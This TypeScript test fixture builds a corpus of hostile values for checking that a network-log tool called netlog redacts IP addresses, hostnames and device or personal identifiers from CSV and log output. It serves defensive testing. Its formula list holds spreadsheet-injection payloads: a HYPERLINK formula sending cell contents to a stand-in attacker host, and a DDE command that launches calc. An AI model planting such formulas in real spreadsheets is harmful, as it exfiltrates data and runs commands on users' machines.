/**
 * The hostile corpus: values that identify a host or a person, or attack a spreadsheet, in every
 * spelling the privacy issue lists and more, as they reach netlog's name fields (url.domain,
 * tls.client.server_name, destination.domain). None of them may reach a CSV cell or a log line as it
 * is: the leak oracle judges what did. Written by hand, not derived from netlog's parsers.
 */

const V4 = ['10.0.0.5', '192.168.1.20', '172.16.9.9', '10.20.30.40'] as const;

function octal(ip: string): string {
  return ip
    .split('.')
    .map((p) => `0${Number(p).toString(8)}`)
    .join('.');
}
function decimal(ip: string): string {
  return String(ip.split('.').reduce((n, p) => n * 256 + Number(p), 0));
}
function hex(ip: string): string {
  return `0x${ip
    .split('.')
    .map((p) => Number(p).toString(16).padStart(2, '0'))
    .join('')
    .toUpperCase()}`;
}
function fullwidth(text: string): string {
  return [...text]
    .map((c) => (c === '.' ? '\uff0e' : /\d/.test(c) ? String.fromCharCode(0xff10 + Number(c)) : c))
    .join('');
}

function v4Spellings(ip: string): string[] {
  const [a, b, c, d] = ip.split('.');
  const dashed = `${a}-${b}-${c}-${d}`;
  return [
    ip,
    `${ip}.`,
    ip
      .split('.')
      .map((p) => p.padStart(3, '0'))
      .join('.'),
    decimal(ip),
    hex(ip),
    octal(ip),
    `${ip}:8443`,
    `${ip}%eth0`,
    fullwidth(ip),
    `::ffff:${ip}`,
    `[::ffff:${ip}]:443`,
    `64:ff9b::${ip}`,
    `ip-${dashed}`,
    `ip-${dashed}.ec2.internal`,
    `ip-${dashed}.eu-west-1.compute.internal`,
    `host-${dashed}.corp.lan`,
    `dhcp-${dashed}`,
    `host_${a}_${b}_${c}_${d}.lan`,
    `${d}.${c}.${b}.${a}.in-addr.arpa`,
    `${d}.${c}.${b}.${a}.in-addr.arpa.`,
    `http://${ip}:8080/login`,
    `user=alice;ip=${ip}`,
    `${dashed}.lan`,
    `srv.${ip}.corp`,
  ];
}

const V6 = ['fd00:10::5', '2001:db8::1', 'fe80::1'] as const;

function expand(ip: string): string {
  const [head = '', tail = ''] = ip.split('::');
  const h = head === '' ? [] : head.split(':');
  const t = tail === '' ? [] : tail.split(':');
  return [...h, ...Array<string>(8 - h.length - t.length).fill('0'), ...t]
    .map((g) => g.padStart(4, '0'))
    .join(':');
}

function v6Spellings(ip: string): string[] {
  const full = expand(ip);
  const nibbles = full.replaceAll(':', '').split('').reverse().join('.');
  return [
    ip,
    full,
    full.toUpperCase(),
    `[${ip}]:443`,
    `${full
      .split(':')
      .map((g) => g.replace(/^0+(?=.)/, ''))
      .join(':')}:443`,
    `${ip}%eth0`,
    `${ip.replaceAll(':', '-')}.ipv6-literal.net`,
    `${nibbles}.ip6.arpa`,
    `https://[${ip}]/x`,
  ];
}

const PEOPLE_AND_DEVICES = [
  'alice@fileserver',
  'john.doe@corp.lan',
  'mailto:bob@example.com',
  'eve@10.0.0.7',
  'nougat [aa:bb:cc:dd:ee:ff]._workstation._tcp.local',
  'aa-bb-cc-dd-ee-ff.lan',
  'AA:BB:CC:DD:EE:01',
  'aabb.ccdd.ee02',
  'android-1a2b3c4d5e6f7a8b.lan',
  'alices-iphone.lan',
  'alices-iphone',
  'DESKTOP-4F2K9QX',
  'bobs-macbook-pro.local',
  '4.3.2.10.in-addr.arpa',
  '10.in-addr.arpa',
  '20.10.in-addr.arpa',
  'a1b2c3d4e5f6.corp',
  '+4915123456789.lan',
  '0049-151-23456789',
];

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uff1d1+1',
  '"=1+1"',
  "'=1+1",
  '=10.0.0.5',
  '+10.0.0.5',
  '-ip-10-0-0-5',
  '@alice',
];

const MISC = [
  'a'.repeat(70) + '.lan',
  `${'x.'.repeat(130)}com`,
  'fs01.corp.example.lan',
  'mail.google.com',
  'news.bbc.co.uk',
  'printer',
  'ip-10-0-0-5 .lan',
  'fs01\u0000.lan',
  'host\nnext',
  'ｆｓ０１.corp.lan',
  'xn--bcher-kva.de',
  'localhost',
  '127.0.0.1',
  '0.0.0.0',
  '::1',
  '[::1]',
  '10.0.0.5/24',
  '10.1',
  '0x0a.0x00.0x00.0x05',
  '10-0-0-5.nip.io',
  'www.10.0.0.5.nip.io',
];

/** Every value of the corpus (at least 150), each once. */
export const HOSTILE_VALUES: readonly string[] = [
  ...new Set([
    ...V4.flatMap(v4Spellings),
    ...V6.flatMap(v6Spellings),
    ...PEOPLE_AND_DEVICES,
    ...FORMULAS,
    ...MISC,
  ]),
];

/**
 * Values whose text must never appear anywhere as it is (in a CSV or a log): everything but the
 * harmless names that are there to show what stays visible.
 */
export const CANARIES: readonly string[] = HOSTILE_VALUES.filter(
  (v) =>
    ![
      `${'a'.repeat(70)}.lan`,
      `${'x.'.repeat(130)}com`,
      'fs01.corp.example.lan',
      'mail.google.com',
      'news.bbc.co.uk',
      'printer',
      'localhost',
      'xn--bcher-kva.de',
    ].includes(v) && v.length >= 6,
);
